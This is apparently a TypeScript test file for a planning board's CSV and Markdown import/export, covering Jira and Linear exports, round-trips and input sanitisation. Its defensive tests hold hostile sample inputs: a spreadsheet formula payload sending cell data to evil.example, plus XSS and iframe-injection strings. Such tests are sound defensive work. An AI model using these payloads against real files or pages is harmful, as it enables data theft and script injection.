import { test } from 'node:test';
import Papa from 'papaparse';
import assert from 'node:assert/strict';
import { CsvFormatError, cardsToCsv, cardsToMarkdown, parseCardsCsv } from './csv.js';
import { buildTemplate } from './templates.js';
import { storyCardRecord } from './records.js';
import { derivePlanning } from './structure.js';
import type { StoryCardProps } from './story-card.js';

// Shaped like Jira Cloud's "Export CSV (all fields)": repeated Labels columns, custom fields.
const JIRA = `Summary,Issue key,Issue id,Issue Type,Status,Priority,Assignee,Reporter,Labels,Labels,Custom field (Story Points),Description
"As a shopper I can save my cart",SHOP-101,10001,Story,To Do,High,Ada Lovelace,Grace Hopper,checkout,mobile,5,"Keep the cart for 30 days.
Logged-in users only."
"Payment page, with ""Apple Pay""",SHOP-102,10002,Story,In Progress,Highest,Alan Turing,Grace Hopper,checkout,,3.0,
Fix typo in footer,SHOP-103,10003,Bug,Done,Lowest,,Grace Hopper,,,,
,SHOP-104,10004,Story,To Do,Medium,,,,,8,No summary here
Refactor pricing,SHOP-105,10005,Task,Selected for Development,Medium,Ada Lovelace,,,,4,
`;

// Shaped like Linear's CSV export.
const LINEAR = `ID,Team,Title,Description,Status,Estimate,Priority,Project ID,Project,Creator,Assignee,Labels,Cycle Number,Created
ENG-12,Engineering,Onboarding checklist,"Steps for new users",Backlog,2,Urgent,p1,Onboarding,Sam,sam@example.com,"Feature, UX",4,2026-10-01
ENG-13,Engineering,Import from Trello,,In Review,8,No priority,p1,Onboarding,Sam,,Feature,4,2026-10-02
ENG-14,Engineering,Crash on empty board,,Canceled,,Low,p1,,Sam,Kim Lee,Bug,,2026-10-03
ENG-15,Engineering,Spike: offline sync,,Blocked,?,Medium,,,Sam,,,,2026-10-04
`;

test('Jira export: fields mapped, repeated Labels merged, multi-line descriptions kept, rows without a summary skipped', () => {
  const result = parseCardsCsv(JIRA);
  assert.equal(result.cards.length, 4);
  assert.deepEqual(result.skipped, [{ row: 5, reason: 'no title' }]);
  const [save, pay, typo, refactor] = result.cards as [StoryCardProps, StoryCardProps, StoryCardProps, StoryCardProps];
  assert.deepEqual(save, {
    title: 'As a shopper I can save my cart', description: 'Keep the cart for 30 days.\nLogged-in users only.', estimate: '5', status: 'todo',
    assignee: 'Ada Lovelace', labels: ['checkout', 'mobile'], priority: 'high', votes: 0, externalKey: 'SHOP-101',
  });
  assert.equal(pay.title, 'Payment page, with "Apple Pay"');
  assert.deepEqual([pay.status, pay.priority, pay.estimate, pay.labels], ['in-progress', 'urgent', '3', ['checkout']]);
  assert.deepEqual([typo.status, typo.priority, typo.estimate, typo.assignee], ['done', 'low', 'none', '']);
  // 4 points is not on the scale: rounded up, and the report says so.
  assert.equal(refactor.estimate, '5');
  assert.deepEqual(result.warnings, [{ row: 6, reason: 'estimate 4 rounded up to 5' }]);
  assert.equal(result.columns['Summary'], 'title');
  assert.equal(result.columns['Custom field (Story Points)'], 'estimate');
});

test('Linear export: identifiers, comma-separated labels, workflow states and priorities', () => {
  const { cards, skipped } = parseCardsCsv(LINEAR);
  assert.equal(skipped.length, 0);
  assert.deepEqual(cards.map((c) => c.externalKey), ['ENG-12', 'ENG-13', 'ENG-14', 'ENG-15']);
  assert.deepEqual(cards[0]!.labels, ['Feature', 'UX']);
  assert.deepEqual(cards.map((c) => c.status), ['todo', 'in-progress', 'done', 'blocked']);
  assert.deepEqual(cards.map((c) => c.priority), ['urgent', 'none', 'low', 'medium']);
  assert.deepEqual(cards.map((c) => c.estimate), ['2', '8', 'none', '?']);
  assert.equal(cards[0]!.assignee, 'sam@example.com');
});

test('a file that cannot be imported is refused as a whole with a reason', () => {
  assert.throws(() => parseCardsCsv(''), CsvFormatError);
  assert.throws(() => parseCardsCsv('Key,Points\nA-1,3\n'), /no title column/);
  assert.throws(() => parseCardsCsv('Title,Description\n"Unclosed,quote\n'), (error: Error) => error instanceof CsvFormatError && /line/.test(error.message));
  const rows = Array.from({ length: 5001 }, (_, i) => `Card ${i}`).join('\n');
  assert.throws(() => parseCardsCsv(`Title\n${rows}\n`), /at most 5000/);
});

test('rows that cannot become a card are skipped with their line and why', () => {
  const long = 'x'.repeat(301);
  const { cards, skipped } = parseCardsCsv(`Title,Labels,Votes\nok,a,2\n${long},,\nextra,b,1,surplus\n`);
  assert.equal(cards.length, 1);
  assert.equal(cards[0]!.votes, 2);
  assert.equal(skipped[0]!.row, 3);
  assert.match(skipped[0]!.reason, /title.*300/);
  assert.deepEqual(skipped[1], { row: 4, reason: '4 cells but the header has 3' });
});

test('export → import keeps every field of every card', () => {
  const template = buildTemplate('backlog');
  const inbox = derivePlanning(template).lanes[0]!;
  const originals: Partial<StoryCardProps>[] = [
    { title: 'Save cart', description: 'Line one\nline "two", with comma', estimate: '5', status: 'in-progress', assignee: 'Ada Lovelace', labels: ['checkout', 'mobile'], priority: 'urgent', votes: 3, externalKey: 'SHOP-1' },
    { title: '=SUM(A1) looks like a formula', estimate: '?', status: 'blocked', priority: 'low', votes: 0 },
    { title: 'Plain', estimate: 'none', status: 'done', labels: [], priority: 'none' },
    { title: 'Pipes | and, commas', estimate: '21', status: 'todo', priority: 'medium', assignee: 'kim@example.com', labels: ['a b'], votes: 12 },
  ];
  const records = originals.map((props, i) => storyCardRecord({ x: 10, y: 10 + i * 150, index: `a${i + 1}`, parentId: inbox.id }, props));
  const model = derivePlanning([...template, ...records]);
  const csv = cardsToCsv(model);
  const back = parseCardsCsv(csv);
  assert.deepEqual(back.skipped, []);
  assert.deepEqual(back.warnings, []);
  assert.deepEqual(back.cards, model.cards.map((c) => c.props));
  assert.match(csv.split('\n')[0]!, /^Key,Title,Description,Estimate,Status,Assignee,Labels,Priority,Votes,Lane$/);
  assert.match(csv, /,Inbox\n/);
});

test('markdown export: a section per lane with its total, cards as table rows', () => {
  const template = buildTemplate('sprint');
  const [backlog, sprint] = derivePlanning(template).lanes;
  const md = cardsToMarkdown(derivePlanning([
    ...template,
    storyCardRecord({ x: 20, y: 20, index: 'a1', parentId: sprint!.id }, { title: 'Pay | with card', estimate: '8', externalKey: 'P-1' }),
    storyCardRecord({ x: 20, y: 20, index: 'a2', parentId: backlog!.id }, { title: 'Later thing' }),
  ]), 'Sprint 14');
  assert.match(md, /^# Sprint 14\n/);
  assert.match(md, /## Sprint 1 \(8 \/ 30 pts · 1 card\)/);
  assert.match(md, /## Backlog \(1 card · 0 pts \+ 1 unestimated\)/);
  assert.match(md, /\| P-1 \| Pay \\\| with card \| 8 \| To do \|/);
  assert.match(md, /2 cards, 8 points in all\./);
});

test('formula injection: cells starting with = + - @ tab or CR are neutralised, and come back exactly on import', () => {
  const template = buildTemplate('backlog');
  const inbox = derivePlanning(template).lanes[0]!;
  const hostile = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';
  const titles = [hostile, '=tbd', '-1 day buffer', '+1 from Kim', '@channel ping', "'=already quoted", "''+twice", "'plain apostrophe", 'plain'];
  const records = titles.map((title, i) => storyCardRecord({ x: 10, y: 10 + i * 150, index: `a${i + 1}`, parentId: inbox.id }, {
    title,
    description: i === 0 ? '- first point\n- second point' : '',
    assignee: i === 1 ? '@ada' : '',
    labels: i === 2 ? ['-urgent', '=x'] : [],
    externalKey: i === 3 ? '+KEY-1' : '',
  }));
  const model = derivePlanning([...template, ...records]);
  const csv = cardsToCsv(model);
  const parsed = Papa.parse<string[]>(csv).data.slice(1, titles.length + 1);
  // What a spreadsheet sees: no cell of any row starts with a formula character.
  for (const row of parsed) for (const value of row) assert.doesNotMatch(value, /^[=+\-@\t\r]/, `cell ${JSON.stringify(value)}`);
  assert.equal(parsed[0]![1], `'${hostile}`);
  assert.equal(parsed[5]![1], "''=already quoted");
  assert.equal(parsed[7]![1], "'plain apostrophe", 'a cell that is no formula is left alone');
  assert.match(csv, /"'=HYPERLINK\(""https/);
  const back = parseCardsCsv(csv);
  assert.deepEqual(back.skipped, []);
  assert.deepEqual(back.cards.map((card) => card.title), titles);
  assert.deepEqual(back.cards, model.cards.map((c) => c.props));
});

test('import strips control characters from one-line fields, keeps line breaks in descriptions', () => {
  const { cards } = parseCardsCsv('Title,Description,Assignee,Labels\n"Pay\u0000ment\u202E page\u001b","one\r\ntwo\u0007",Ada\u2066 L,"a\u0000b, c"\n');
  assert.deepEqual(
    [cards[0]!.title, cards[0]!.description, cards[0]!.assignee, cards[0]!.labels],
    ['Payment page', 'one\ntwo', 'Ada L', ['ab', 'c']],
  );
});

test('markdown export escapes raw HTML and drops control characters', () => {
  const template = buildTemplate('backlog');
  const inbox = derivePlanning(template).lanes[0]!;
  const md = cardsToMarkdown(derivePlanning([
    ...template,
    storyCardRecord({ x: 20, y: 20, index: 'a1', parentId: inbox.id }, { title: '<img src=x onerror=alert(1)> & <script>x</script>', labels: ['<b>'], assignee: 'A\u202Eb' }),
  ]), 'Board <iframe src="https://evil.example">\r\n# injected');
  assert.doesNotMatch(md, /<img|<script|<iframe|<b>/);
  assert.match(md, /^# Board &lt;iframe src="https:\/\/evil.example"&gt; # injected\n/);
  assert.match(md, /\| &lt;img src=x onerror=alert\(1\)&gt; &amp; &lt;script&gt;x&lt;\/script&gt; \|/);
  assert.match(md, /\| Ab \| &lt;b&gt; \|/);
});

test('a description starting with a tab is neutralised; a CR becomes a line break, which starts no formula', () => {
  const template = buildTemplate('backlog');
  const inbox = derivePlanning(template).lanes[0]!;
  const descriptionCell = (description: string) => {
    const csv = cardsToCsv(derivePlanning([...template, storyCardRecord({ x: 20, y: 20, index: 'a1', parentId: inbox.id }, { title: 'x', description })]));
    return Papa.parse<string[]>(csv).data[1]![2];
  };
  assert.equal(descriptionCell('\t=1+1'), "'\t=1+1");
  assert.equal(descriptionCell('\r=1+1'), '\n=1+1');
});
